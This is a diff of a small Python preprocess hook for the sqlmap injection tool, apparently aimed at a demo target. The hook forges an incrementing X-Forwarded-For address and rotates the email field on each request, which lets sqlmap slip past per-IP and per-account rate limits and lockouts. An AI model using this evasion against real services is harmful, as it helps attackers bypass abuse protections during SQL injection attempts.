@@ -7,11 +7,12 @@ ACCOUNT = "nobody%40demo.example"
 requests = count()
 
 
-def preprocess(request):
+# sqlmap looks for this name and this argument.
+def preprocess(req):
     number = next(requests)
-    request.add_header("X-Forwarded-For", f"10.{number >> 16 & 255}.{number >> 8 & 255}.{number & 255}")
-    if request.data:
-        text = isinstance(request.data, str)
-        data = request.data if text else request.data.decode()
+    req.add_header("X-Forwarded-For", f"10.{number >> 16 & 255}.{number >> 8 & 255}.{number & 255}")
+    if req.data:
+        text = isinstance(req.data, str)
+        data = req.data if text else req.data.decode()
         data = data.replace(f"email={ACCOUNT}&", f"email=nobody{number}%40demo.example&")
-        request.data = data if text else data.encode()
+        req.data = data if text else data.encode()
